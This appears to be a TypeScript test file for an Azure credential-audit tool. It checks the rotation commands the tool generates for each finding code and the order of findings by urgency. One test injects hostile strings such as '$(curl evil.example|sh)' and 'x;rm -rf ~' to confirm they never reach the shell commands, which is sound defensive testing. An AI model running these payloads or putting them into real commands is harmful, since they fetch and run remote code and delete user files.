// The audit's action table and urgency order, without a network: each finding code's action and
// commands, keyrelay's credentials sent to `pulumi up`, and tenant data kept out of the commands.
import { strict as assert } from "assert";
import * as fs from "fs";
import * as path from "path";
import { DateTime } from "luxon";
import { findingAction, findingContext, vaultNameOf } from "../../cli/audit/actions";
import { byUrgency } from "../../cli/audit/urgency";
import { AuditedCredential, AuditedSecret, FINDING_SEVERITIES, Finding, FindingCode } from "../../cli/audit/model";

const APP_ID = "5e5e5e5e-aaaa-4bbb-8ccc-dddddddddddd";
const KEY_ID = "c099a314-d5dd-452a-a11e-3486581e6c60";
const TENANT = "72f988bf-0000-4000-8000-00000000cafe";
const VAULT = "https://kv-platform.vault.azure.net";
const now = DateTime.fromISO("2026-12-04T10:00:00Z", { zone: "utc" });

function credential(over: Partial<AuditedCredential> = {}): AuditedCredential {
    return {
        app: { displayName: "billing-api", appId: APP_ID, kind: "application", objectId: "0b0b0b0b-aaaa-4bbb-8ccc-dddddddddddd", signInAudience: "AzureADMyOrg", hasOwner: true },
        type: "password", keyId: KEY_ID, displayName: "billing-api secret", hint: "Kf2", startDateTime: "2026-06-01T00:00:00Z", endDateTime: "2026-12-14T08:30:00.123Z",
        daysLeft: 9, lifetimeDays: 196, lifetimeLimitDays: 365, lifetimeLimitSource: "test", managedByKeyrelay: false, retiring: false, heldBy: [], ...over,
    };
}

function secret(over: Partial<AuditedSecret> = {}): AuditedSecret {
    return { vault: VAULT, name: "billing-api-secret", clientId: APP_ID, source: "tag", app: { displayName: "billing-api", appId: APP_ID, kind: "application" }, hint: null, matchedBy: "key-id tag", endDateTime: null, keyId: KEY_ID, managedByKeyrelay: false, findings: [], ...over };
}

function finding(code: FindingCode, over: Partial<Finding> = {}): Finding {
    return { code, severity: FINDING_SEVERITIES[code], app: { displayName: "billing-api", appId: APP_ID, kind: "application" }, clientId: APP_ID, keyId: KEY_ID, message: "m", ...over };
}

const report = (credentials: AuditedCredential[], secrets: AuditedSecret[]) => ({ checkedAt: now.toISO()!, credentials, secrets, tenant: { id: TENANT } });

describe("audit actions", () => {
    it("an expired hand-made client secret: a new one straight into its vault secret, then the old one deleted", () => {
        const r = report([credential()], [secret()]);
        const f = finding("credential-expired");
        const { action, commands } = findingAction(f, findingContext(r, f));
        assert.match(action, /^Issue a new client secret into Key Vault, then delete the expired one\.$/);
        assert.equal(commands[0], `az keyvault secret set --vault-name kv-platform --name billing-api-secret --expires 2027-06-02T00:00:00Z --tags client-id=${APP_ID} \\\n`
            + `    --value "$(az ad app credential reset --id ${APP_ID} --append --display-name rotated-2026-12-04 --end-date 2027-06-02 --query password -o tsv)"`);
        assert.equal(commands[1], `az ad app credential delete --id ${APP_ID} --key-id ${KEY_ID}`);
    });

    it("keyrelay's own credential: pulumi up for the stack, then keyrelay verify with the tenant", () => {
        const r = report([credential({ managedByKeyrelay: true })], [secret({ managedByKeyrelay: true })]);
        for (const code of ["credential-expired", "credential-expiring"] as const) {
            const { commands } = findingAction(finding(code), findingContext(r, finding(code)));
            assert.match(commands[0], /^pulumi up /);
            assert.equal(commands[1], `keyrelay verify --vault ${VAULT} --secret billing-api-secret --tenant ${TENANT}`);
            assert.ok(!commands.join("\n").includes("az ad app credential"), "no hand rotation of a keyrelay credential");
        }
    });

    it("service principals use az ad sp, certificates --cert; the lifetime limit shortens the new credential", () => {
        const sp = credential({ app: { ...credential().app, kind: "servicePrincipal" }, lifetimeLimitDays: 90 });
        const f = finding("credential-lifetime-over-policy", { app: { displayName: "x", appId: APP_ID, kind: "servicePrincipal" } });
        const { action, commands } = findingAction(f, findingContext(report([sp], []), f));
        assert.match(action, /at most 90 days/);
        assert.match(commands.join("\n"), new RegExp(`^az ad sp credential reset --id ${APP_ID} --append --display-name rotated-2026-12-04 --end-date 2027-03-04 --query password -o tsv$`, "m"));
        assert.match(commands.join("\n"), /^az ad sp credential delete /m);
        const cert = credential({ type: "key" });
        const expired = findingAction(finding("credential-expired"), findingContext(report([cert], []), finding("credential-expired")));
        assert.deepEqual(expired.commands, [`az ad app credential reset --id ${APP_ID} --append --cert @<new-certificate.pem>`, `az ad app credential delete --id ${APP_ID} --key-id ${KEY_ID} --cert`]);
    });

    it("an expiry mismatch sets the secret's expiry to the credential's end, in whole seconds", () => {
        const f = finding("secret-expiry-mismatch", { vault: VAULT, secret: "billing-api-secret" });
        assert.deepEqual(findingAction(f, findingContext(report([credential()], [secret()]), f)).commands,
            ["az keyvault secret set-attributes --vault-name kv-platform --name billing-api-secret --expires 2026-12-14T08:30:00Z"]);
    });

    it("every code has an action, and a heading in docs/audit.md to link to", () => {
        const docs = fs.readFileSync(path.join(__dirname, "../../docs/audit.md"), "utf8");
        const r = report([credential()], [secret()]);
        for (const code of Object.keys(FINDING_SEVERITIES) as FindingCode[]) {
            const f = finding(code, code.startsWith("secret-") ? { vault: VAULT, secret: "billing-api-secret" } : {});
            const { action } = findingAction(f, findingContext(r, f));
            assert.ok(action.length > 10 && !action.includes("\n"), code);
            assert.match(docs, new RegExp(`^### ${code}$`, "m"), code);
        }
    });

    it("tenant data that is not an id or a name of the right shape becomes a placeholder, never shell syntax", () => {
        const hostileApp = "$(curl evil.example|sh)";
        const c = credential({ app: { ...credential().app, appId: hostileApp }, keyId: "`reboot`" });
        const s = secret({ name: "x;rm -rf ~", vault: "https://evil$(id).vault.azure.net", clientId: hostileApp, source: "tag" });
        const r = report([c], [s]);
        for (const code of Object.keys(FINDING_SEVERITIES) as FindingCode[]) {
            const f = finding(code, { app: { displayName: "a'; rm -rf ~", appId: hostileApp, kind: "application" }, clientId: hostileApp, keyId: "`reboot`", vault: s.vault, secret: s.name });
            const text = findingAction(f, findingContext(r, f)).commands.join("\n");
            assert.ok(!text.includes("curl") && !text.includes("reboot") && !text.includes("rm -rf") && !text.includes("$(id)"), `${code}: ${text}`);
        }
        assert.equal(vaultNameOf("https://127.0.0.1:8443"), "<vault name>");
        assert.equal(vaultNameOf("https://KV-Platform.vault.usgovcloudapi.net"), "kv-platform");
    });

    it("sorts by urgency: critical first, then what fails soonest, then by code", () => {
        const soon = credential({ keyId: "11111111-1111-4111-8111-111111111111", daysLeft: 3 });
        const later = credential({ keyId: "22222222-2222-4222-8222-222222222222", daysLeft: 25 });
        const findings = [
            finding("app-without-owner", { keyId: undefined }),
            finding("credential-expiring", { keyId: later.keyId }),
            finding("secret-expiry-mismatch", { keyId: undefined }),
            finding("credential-expiring", { keyId: soon.keyId }),
            finding("secret-stale", { keyId: undefined }),
            finding("credential-expired"),
        ];
        const byKey = new Map([soon, later].map((c) => [c.keyId, c]));
        const ordered = byUrgency(findings, (f) => (f.keyId ? byKey.get(f.keyId) : undefined));
        assert.deepEqual(ordered.map((f) => `${f.code}${f.keyId ? `:${f.keyId.slice(0, 1)}` : ""}`),
            ["credential-expired:c", "secret-stale", "credential-expiring:1", "credential-expiring:2", "secret-expiry-mismatch", "app-without-owner"]);
    });
});
